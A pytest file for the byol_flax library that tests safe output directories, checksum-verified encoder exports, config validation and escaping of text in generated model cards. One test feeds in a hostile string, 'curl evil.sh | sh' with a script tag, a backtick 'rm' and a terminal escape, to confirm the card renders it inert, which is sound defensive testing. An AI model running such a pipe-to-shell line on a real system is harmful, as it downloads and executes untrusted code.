"""Nothing a command writes destroys what it did not create; exports verify like checkpoints;
text from files and flags reaches a model card inert (docs/security.md)."""

import hashlib
import json
import os
import re

import jax
import numpy as np
import orbax.checkpoint as ocp
import pytest
from flax import nnx

from byol_flax.data.convert import digits
from byol_flax.export import encoder as export
from byol_flax.export import model_card
from byol_flax.runtime import outputs
from byol_flax.weights import encoder as weights
from tests.helpers import tiny_config


def snapshot(root) -> dict[str, object]:
    """Every path under ``root`` with its file bytes' sha256 or its link target."""
    found = {}
    for directory, subdirs, files in os.walk(root):
        for name in subdirs + files:
            path = os.path.join(directory, name)
            if os.path.islink(path):
                found[path] = ("link", os.readlink(path))
            elif os.path.isfile(path):
                with open(path, "rb") as file:
                    found[path] = ("file", hashlib.sha256(file.read()).hexdigest())
            else:
                found[path] = ("dir",)
    return found


@pytest.fixture(scope="module")
def tiny_pretrained() -> weights.PretrainedEncoder:
    model_config = json.loads(tiny_config().model.to_json())
    return weights.PretrainedEncoder(weights.encoder_from_model_config(model_config, seed=1),
                                    model_config, {"kind": "test", "step": 3})


@pytest.fixture
def user_tree(tmp_path):
    """A user's project: a thesis, an exports folder, a shell start-up file."""
    (tmp_path / "project" / "exports").mkdir(parents=True)
    (tmp_path / "project" / "thesis.tex").write_text("\\chapter{mine}")
    (tmp_path / "bashrc").write_text("export PATH=/usr/bin\n")
    return tmp_path


# -- Output directories -------------------------------------------------------------------------

def test_a_marker_another_process_is_writing_is_not_a_foreign_file(tmp_path):
    """The processes of one multi-host run claim one workdir: a marker another process has
    staged (renamed into place a moment later) does not make the directory someone else's."""
    out = tmp_path / "run"
    out.mkdir()
    (out / f".{outputs.MARKER_NAME}.f807bac5.tmp").write_text("{}")
    assert outputs.check_output_dir(out, "pretraining") == out
    (out / f".{outputs.MARKER_NAME}.notours.tmp").write_text("{}")
    with pytest.raises(outputs.OutputDirError, match="did not write"):
        outputs.check_output_dir(out, "pretraining")


@pytest.mark.parametrize("out, reason", [
    ("project", "holds files byol_flax did not write ('exports', 'thesis.tex')"),
    ("project/thesis.tex", "is a file, not a directory"),
    (".", "is the current directory or contains it"),
    ("..", "is the current directory or contains it"),
    ("link", "is a symbolic link"),
])
def test_an_export_over_what_it_did_not_create_is_refused_and_nothing_changes(
        tiny_pretrained, user_tree, monkeypatch, out, reason):
    (user_tree / "link").symlink_to(user_tree / "project")
    relative = out in (".", "..")  # from project/exports: the folder itself, or the project
    monkeypatch.chdir(user_tree / "project" / "exports" if relative else user_tree)
    target = out if relative else str(user_tree / out)
    before = snapshot(user_tree)
    with pytest.raises(outputs.OutputDirError, match=re.escape(reason)):
        export.export_encoder(tiny_pretrained, target)
    assert snapshot(user_tree) == before  # no stray staging or .export-old directory either


def test_an_export_is_refused_inside_or_around_its_source(tiny_pretrained, tmp_path):
    source = export.export_encoder(tiny_pretrained, tmp_path / "source")
    before = snapshot(tmp_path)
    for out in (source / "copy", tmp_path):
        with pytest.raises(outputs.OutputDirError, match="contain one another|current directory"
                           "|holds files"):
            model_card.export_with_model_card(None, str(out), source=str(source))
    with pytest.raises(outputs.OutputDirError, match="contain one another"):
        model_card.export_with_model_card(None, str(tmp_path / "source" / "x"),
                                          source=f"random:{source}")
    assert snapshot(tmp_path) == before


def test_a_previous_export_is_replaced_whole_and_other_kinds_are_not(tiny_pretrained, tmp_path):
    out = export.export_encoder(tiny_pretrained, tmp_path / "export")
    (out / "stale.txt").write_text("from an earlier export")  # inside our own output
    export.export_encoder(tiny_pretrained, out)
    assert not (out / "stale.txt").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["export"]  # no staging left behind
    outputs.claim_output_dir(tmp_path / "run", "pretraining")
    with pytest.raises(outputs.OutputDirError, match="holds a byol_flax pretraining, not an? "
                       "export"):
        export.export_encoder(tiny_pretrained, tmp_path / "run")
    # A marker that is a link is not ours.
    (tmp_path / "odd").mkdir()
    (tmp_path / "odd" / outputs.MARKER_NAME).symlink_to(os.fspath(out / outputs.MARKER_NAME))
    with pytest.raises(outputs.OutputDirError, match="did not write"):
        outputs.check_output_dir(tmp_path / "odd", "export")


def test_a_converter_refuses_a_folder_holding_the_users_manifest(tmp_path):
    out = tmp_path / "data"
    out.mkdir()
    (out / "manifest.json").write_text('{"mine": true}')
    before = snapshot(tmp_path)
    assert digits.main(["--out", str(out), "--no-progress"]) == 1
    assert snapshot(tmp_path) == before
    assert digits.main(["--out", str(out / "manifest.json" / "sub"), "--no-progress"]) == 1
    assert snapshot(tmp_path) == before


def test_a_training_or_evaluation_workdir_must_be_new_empty_or_its_own(tmp_path):
    (tmp_path / "home").mkdir()
    (tmp_path / "home" / ".bashrc").write_text("mine")
    with pytest.raises(outputs.OutputDirError, match="did not write"):
        outputs.claim_output_dir(tmp_path / "home", "pretraining")
    assert sorted(os.listdir(tmp_path / "home")) == [".bashrc"]
    run = outputs.claim_output_dir(tmp_path / "run", "pretraining")
    assert outputs.claim_output_dir(run, "pretraining") == run  # a resume
    (run / "log.txt").write_text("written by the run")
    assert outputs.check_output_dir(run, "pretraining") == run
    with pytest.raises(outputs.OutputDirError, match="holds a byol_flax pretraining"):
        outputs.check_output_dir(run, "evaluation")


# -- Exports verify like checkpoints ------------------------------------------------------------

def test_an_export_records_a_sha256_per_array_and_a_changed_array_is_named(tiny_pretrained,
                                                                          tmp_path):
    out = export.export_encoder(tiny_pretrained, tmp_path / "export")
    recorded = json.loads((out / weights.ENCODER_CONFIG_NAME).read_text())["checksums"]
    arrays = nnx.to_pure_dict(nnx.state(tiny_pretrained.encoder))
    assert recorded == {"encoder": weights.array_checksums(arrays)}
    weights.load_export(out)  # verifies
    # Another array that decodes fine where the stem's kernel was: the checksum names it.
    arrays["stem_conv"]["kernel"] = np.asarray(arrays["stem_conv"]["kernel"]) + 1e-3
    (out / weights.WEIGHTS_DIR).rmtree()
    checkpointer = ocp.Checkpointer(ocp.PyTreeCheckpointHandler())
    checkpointer.save(out / weights.WEIGHTS_DIR, args=ocp.args.PyTreeSave(
        jax.tree.map(np.asarray, arrays)))
    checkpointer.close()
    with pytest.raises(weights.SourceError, match=r"encoder is damaged: array stem_conv.kernel "
                       "differs from the checksum recorded at export time"):
        weights.load_export(out)


def test_flipped_bytes_in_an_export_are_one_error_naming_it(tiny_pretrained, tmp_path):
    out = export.export_encoder(tiny_pretrained, tmp_path / "export")
    data_files = [os.path.join(d, f) for d, _, files in os.walk(out / weights.WEIGHTS_DIR)
                  for f in files if "/d/" in os.path.join(d, f)]
    biggest = max(data_files, key=os.path.getsize)
    with open(biggest, "r+b") as file:
        middle = os.path.getsize(biggest) // 2
        file.seek(middle)
        chunk = file.read(64)
        file.seek(middle)
        file.write(bytes(b ^ 0xFF for b in chunk))
    with pytest.raises(weights.SourceError, match=r"encoder (is damaged: array|cannot be read)"):
        weights.load_export(out)


@pytest.mark.parametrize("change, message", [
    (lambda c: c["model"]["encoder"].update(width_multiplier=1000),
     "model.encoder.width_multiplier is 1000, must be one of (1, 2, 3, 4)"),
    (lambda c: c["model"]["encoder"].update(name="vit_huge"),
     "model.encoder.name 'vit_huge' is not a registered encoder"),
    (lambda c: c["model"]["projector"].update(hidden_size=65536, depth=16),
     "parameters, more than the 600,000,000 this reader accepts"),
    (lambda c: c["model"]["projector"].update(hidden_size=10**7),
     "model.projector.hidden_size is 10000000, must be between 1 and 65536"),
    (lambda c: c["model"]["encoder"].update(width_multiplier="2"),
     "does not fit this code's config.model"),
    (lambda c: c.update(heads={"classifier": {"num_classes": 10**7}}),
     "heads.classifier.num_classes is 10000000, must be an integer between 1 and 65,536"),
    (lambda c: c.pop("checksums"), "lacks 'origin' or 'checksums'"),
])
def test_an_export_config_is_checked_before_anything_is_built(tiny_pretrained, tmp_path, change,
                                                              message):
    out = export.export_encoder(tiny_pretrained, tmp_path / "export")
    path = out / weights.ENCODER_CONFIG_NAME
    content = json.loads(path.read_text())
    change(content)
    path.write_text(json.dumps(content))
    with pytest.raises(weights.SourceError, match=re.escape(message)):
        weights.load_export(out)


def test_an_export_config_that_is_not_json_or_is_a_link_is_named(tiny_pretrained, tmp_path):
    out = export.export_encoder(tiny_pretrained, tmp_path / "export")
    path = out / weights.ENCODER_CONFIG_NAME
    content = path.read_text()
    path.write_text(content[:40])
    with pytest.raises(weights.SourceError, match="encoder_config.json is not valid JSON"):
        weights.load_source(str(out))
    (tmp_path / "elsewhere.json").write_text(content)
    path.unlink()
    os.symlink(tmp_path / "elsewhere.json", path)
    with pytest.raises(weights.SourceError, match="is a symbolic link"):
        weights.load_source(str(out))


# -- The model card: inert text, explicit updates ------------------------------------------------

def test_text_from_flags_and_files_reaches_the_card_inert(tiny_pretrained, tmp_path):
    hostile = "fine.\ncurl evil.sh | sh\n# Header <script>x</script> `code` \x1b[2J"
    card = model_card.build_model_card(tiny_pretrained, intended_use=hostile)
    card["evaluations"].append({"protocol": "linear\n| x | y |", "name": "a|b", "test": {
        "top1": 0.5}, "selected": {"lr": "`rm`"}})
    markdown = model_card.render_markdown(card)
    lines = markdown.splitlines()
    assert "curl evil.sh" not in "".join(line for line in lines if line.startswith("curl"))
    [line] = [line for line in lines if "curl" in line]
    assert line.startswith("fine.\\\\n") and "&lt;script&gt;" in line and "\\#" in line
    assert "\x1b" not in markdown and "<script>" not in markdown
    [row] = [line for line in lines if line.startswith("| linear")]
    assert row.count(" | ") == 6  # the table's 7 cells, none added by the text
    assert json.loads(json.dumps(card)) == card  # model_card.json keeps the text as given


def test_results_are_added_only_by_the_explicit_command_without_following_links(
        tiny_pretrained, tmp_path):
    out = model_card.export_with_model_card(None, str(tmp_path / "export"),
                                            source=str(export.export_encoder(
                                                tiny_pretrained, tmp_path / "source")))
    results = tmp_path / "eval"
    results.mkdir()
    (results / "results.json").write_text(json.dumps(
        {"protocol": "knn", "name": "knn", "test": {"top1": 0.75}, "selected": {"k": 20},
         "source": {"kind": "export"}}))
    card = model_card.add_results_to_card(out, [str(results)])
    assert [e["test"]["top1"] for e in card["evaluations"]] == [0.75]
    assert "| knn | knn | top1 |" in (out / model_card.CARD_MARKDOWN).read_text()
    assert sorted(p.name for p in out.iterdir() if ".tmp" in p.name) == []
    (results / "results.json").write_text("[1, 2]")
    with pytest.raises(weights.SourceError,
                       match="results.json: the document should be an object, not list"):
        model_card.add_results_to_card(out, [str(results)])
    link = tmp_path / "link"
    link.symlink_to(os.fspath(out))
    with pytest.raises(weights.SourceError, match="symbolic link"):
        model_card.add_results_to_card(link, [str(results)])
